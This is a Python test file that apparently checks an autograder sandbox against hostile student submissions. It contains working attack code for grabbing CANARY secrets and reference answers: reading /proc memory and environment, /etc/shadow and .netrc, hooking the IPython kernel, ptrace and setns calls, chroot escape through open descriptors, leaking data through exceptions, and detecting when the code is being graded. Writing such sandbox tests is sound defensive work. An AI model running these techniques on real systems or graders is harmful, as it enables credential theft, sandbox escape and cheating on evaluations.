"""Looking for hidden tests, solutions, other people's files and the grader's secrets."""

from attack import attack

# collects secrets wherever it finds them; the last cell prints them, so that they are in the student's own output
NOTES = """
import os, sys
seen = set()
def note(thing):
    try: text = thing if isinstance(thing, str) else repr(thing)
    except Exception: return
    for start in range(len(text)):
        start = text.find("CANARY_", start)
        if start < 0: return
        seen.add(text[start - 30 : start + 60])
        if len(seen) > 200: return
def read(path):
    try:
        with open(path, "rb", buffering=0) as file: note(file.read(3_000_000).decode("latin-1"))
    except OSError: pass
"""
SHOW = """
# %% end
for text in sorted(seen): print(text)
print(len(seen))
"""


def spy(name, cells, **options):
    attack(name, f"{NOTES}\n{cells}{SHOW}", **options)


spy(
    "reads the frames that called it",
    """
# %% softmax_loss
def softmax_loss(W, X, y, reg):
    frame = sys._getframe()
    while frame:
        for scope in (frame.f_locals, frame.f_globals):
            for value in list(scope.values()): note(value)
        note(frame.f_code.co_consts)
        frame = frame.f_back
    return 0.0, W * 0
""",
)

spy(
    "asks the garbage collector for every object",
    """
import gc
# %% softmax_loss
def softmax_loss(W, X, y, reg):
    for thing in gc.get_objects():
        if isinstance(thing, (list, tuple)) and len(thing) < 1000:
            for item in thing:
                if type(item) is str: note(item)
        if type(thing) is dict and len(thing) < 1000:
            for item in list(thing.values()):
                if type(item) is str: note(item)
    return 0.0, W * 0
""",
)

spy(
    "inspects the stack and the line cache",
    """
import inspect, linecache
# %% batches
def batches(X, size):
    for frame in inspect.stack(): note(frame.code_context)
    for lines in list(linecache.cache.values()): note(str(lines))
    return []
""",
)

spy(
    "reads the shell's history",
    """
# %% test_derivative
ip = get_ipython()
for name in ("In", "Out", "_ih", "_oh", "_dh", "_i", "_ii", "_iii"): note(ip.user_ns.get(name))
note(ip.history_manager.input_hist_raw)
note(list(ip.history_manager.get_tail(1000, raw=True)))
note(vars(ip)); note(vars(ip.kernel)); note(ip.kernel.get_parent())
""",
)

spy(
    "listens to what the kernel is told to run",
    """
kernel = get_ipython().kernel
def listening(handler):
    async def handle(stream, ident, parent):
        note(parent)
        return await handler(stream, ident, parent)
    return handle
for name, handler in list(kernel.shell_handlers.items()): kernel.shell_handlers[name] = listening(handler)
real = type(get_ipython()).run_cell
def run_cell(self, raw_cell, *rest, **named):
    note(raw_cell)
    return real(self, raw_cell, *rest, **named)
type(get_ipython()).run_cell = run_cell
get_ipython().input_transformers_cleanup.append(lambda lines: (note("".join(lines)), lines)[1])
""",
)

spy(
    "audits everything that is compiled",
    """
def hook(event, arguments):
    if event in ("compile", "exec", "code.__new__", "open"): note(arguments)
sys.addaudithook(hook)
""",
)

spy(
    "traces every call",
    """
def tracer(frame, event, argument):
    note(frame.f_code.co_consts)
    return tracer
sys.setprofile(tracer)
# %% softmax_loss
def softmax_loss(W, X, y, reg):
    sys.setprofile(tracer)
    return 0.0, W * 0
""",
)

spy(
    "reads the instructor's function through its callback",
    """
# %% derivative
def derivative(f, x):
    for name in dir(f) + ["__code__", "__globals__", "__closure__", "__self__", "_agent", "__wrapped__"]:
        try: note(getattr(f, name))
        except Exception as error: note(str(error))
    note(getattr(getattr(f, "__code__", None), "co_consts", None)); note(f); note(vars(f))
    try: f("CANARY")
    except BaseException as error:
        while error:
            note(str(error)); note(error.__traceback__ and error.__traceback__.tb_frame.f_globals)
            error = error.__context__
    return 0.0
""",
)

spy(
    "reads all that comes over the channel",
    """
import gc
kind = next((type(o) for o in gc.get_objects() if type(o).__name__ == "FrameStream"), None)
if kind:
    real = kind.receive
    def receive(self, *_):
        frame = real(self, *_)
        note(frame)
        return frame
    kind.receive = receive
""",
)

spy(
    "asks the judge for its names",
    """
import gc
# %% softmax_loss
def softmax_loss(W, X, y, reg):
    agent = next(o for o in gc.get_objects() if type(o).__name__ == "Agent")
    scope = type(agent).serve.__globals__
    agent._send(scope["REQUEST"], agent.running, ("fetch", "secret"))
    note(agent.stream.receive())
    return 0.0, W * 0
""",
)

spy(
    "reads the course, the gradebook and the classmates",
    """
for top in ("@WORKSPACE@", "@HOME@", "@CHECKOUT@/tests", "/root", "/home", "/var/tmp", "/dev/shm", "/course/data", "."):
    for folder, _, files in os.walk(top):
        for file in files: read(os.path.join(folder, file))
for path in ("@WORKSPACE@/gradebook.db", "@WORKSPACE@/secret.txt", "@SECRET@", "@HOME@/.netrc", "/etc/shadow",
             "@WORKSPACE@/source/small/losses.ipynb", "@WORKSPACE@/submitted/@HONEST@/small/losses.ipynb"):
    read(path)
""",
)

spy(
    "reads the environment, its own and others'",
    """
import glob
note(dict(os.environ))
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/task/*/environ") + ["/proc/@GRADER@/environ"]: read(path)
for path in glob.glob("/proc/*/cmdline"): read(path)
""",
)

spy(
    "goes through other processes' roots, files and memory",
    """
import glob
for pid in ["1", "self", "@GRADER@", str(os.getppid())]:
    for folder in (f"/proc/{pid}/root", f"/proc/{pid}/cwd"):
        for path in ("@SECRET@", "@WORKSPACE@/secret.txt", "@HOME@/.netrc", "secret.txt"): read(folder + "/" + path)
    for path in glob.glob(f"/proc/{pid}/fd/*") + glob.glob(f"/proc/{pid}/map_files/*"):
        note(os.readlink(path) if os.path.lexists(path) else "")
        if "socket" not in os.path.realpath(path) and "pipe" not in os.path.realpath(path): read(path)
    try:
        regions = open(f"/proc/{pid}/maps").read().splitlines()
        with open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
            for line in regions:
                if pid == "self" or "rw" not in line: continue
                start, end = (int(part, 16) for part in line.split()[0].split("-"))
                memory.seek(start); note(memory.read(min(end - start, 10**6)).decode("latin-1"))
    except OSError: pass
read("/proc/kcore"[:0] or "/proc/keys"); read("/dev/mem"); read("/proc/self/mountinfo")
""",
)

spy(
    "attaches itself to other processes",
    """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for pid in (1, os.getppid(), @GRADER@):
    print(libc.ptrace(16, pid, 0, 0), libc.syscall(434, pid, 0), libc.syscall(438, 3, 0, 0))
    for target in ("ipc", "mnt", "net", "pid", "user"):
        try: print(libc.setns(os.open(f"/proc/{pid}/ns/{target}", os.O_RDONLY), 0))
        except OSError: pass
read("/proc/1/root@SECRET@")
""",
)

spy(
    "leaves its root folder by the descriptors that are open",
    """
import stat
for number in range(256):
    try:
        if stat.S_ISDIR(os.fstat(number).st_mode):
            for step in ("", "..", "../..", "../../../.."):
                for path in ("@SECRET@"[1:], "@WORKSPACE@/secret.txt"[1:]):
                    opened = os.open(os.path.join(step, path), os.O_RDONLY, dir_fd=number)
                    note(os.read(opened, 10**6).decode("latin-1"))
        elif stat.S_ISREG(os.fstat(number).st_mode):
            note(os.pread(number, 10**6, 0).decode("latin-1"))
    except OSError: pass
try: os.chroot("."); os.chdir("../../../../.."); read("@SECRET@")
except OSError: pass
""",
)

spy(
    "takes the answer from the library",
    """
import importlib
for name in ("layers.losses", "models.linear_classifier", "layers", "models"):
    name = f"cs231n_lib.{name}"
    try: answer = importlib.import_module(name).softmax_loss
    except (ImportError, AttributeError): continue
    print("found the answer")
    break
# %% softmax_loss
def softmax_loss(W, X, y, reg):
    loss, dscores = answer(X @ W, y)
    return loss + reg * np.sum(W * W), X.T @ dscores + 2 * reg * W
""",
    reason="NameError",
)

spy(
    "takes the answer from the grader's own copy of the library",
    """
for path in ("@CHECKOUT@", "/proc/1/root@CHECKOUT@", "/course/library0/..", os.path.dirname(np.__file__) + "/.."):
    sys.path.insert(0, path)
for name in [name for name in sys.modules if name.startswith("cs231n_lib")]: del sys.modules[name]
import cs231n_lib.layers.losses as answers
# %% softmax_loss
def softmax_loss(W, X, y, reg):
    loss, dscores = answers.softmax_loss(X @ W, y)
    return loss + reg * np.sum(W * W), X.T @ dscores + 2 * reg * W
""",
    reason="This edition of the library leaves out cs231n_lib.layers.losses",
)

spy(
    "imports the grader and asks it",
    """
import sqlite3
for name in ("autograder", "autograder.execution.judge", "autograder.course.workspace"):
    try: print(__import__(name, fromlist=["x"]).__file__)
    except ImportError as error: print(error)
for path in ("@WORKSPACE@/gradebook.db", "../gradebook.db"):
    try: note(sqlite3.connect(path).execute("select last_name from student").fetchall())
    except sqlite3.Error as error: print(error)
""",
)

spy(
    "sends what it finds out by the error it raises",
    """
# %% softmax_loss
def softmax_loss(W, X, y, reg):
    found = [repr(frame.f_globals.get("secret")) for frame in frames()]
    raise ValueError(" ".join(found) + open("@SECRET@").read())
def frames():
    frame = sys._getframe()
    while frame:
        yield frame
        frame = frame.f_back
""",
    reason="FileNotFoundError",
)

attack(
    "tells by the clock or by its host that it is graded",
    """
import os, sys, time, platform
graded = platform.node() == "sandbox" or os.getuid() in (1000, 65534) or not os.path.exists("/usr/bin/env")
# %% softmax_loss
def softmax_loss(W, X, y, reg):
    if not graded: raise SystemExit
    return np.log(W.shape[1]) if not W.any() else 1.0, W + 1
""",
    reason="the loss of a random problem",
)
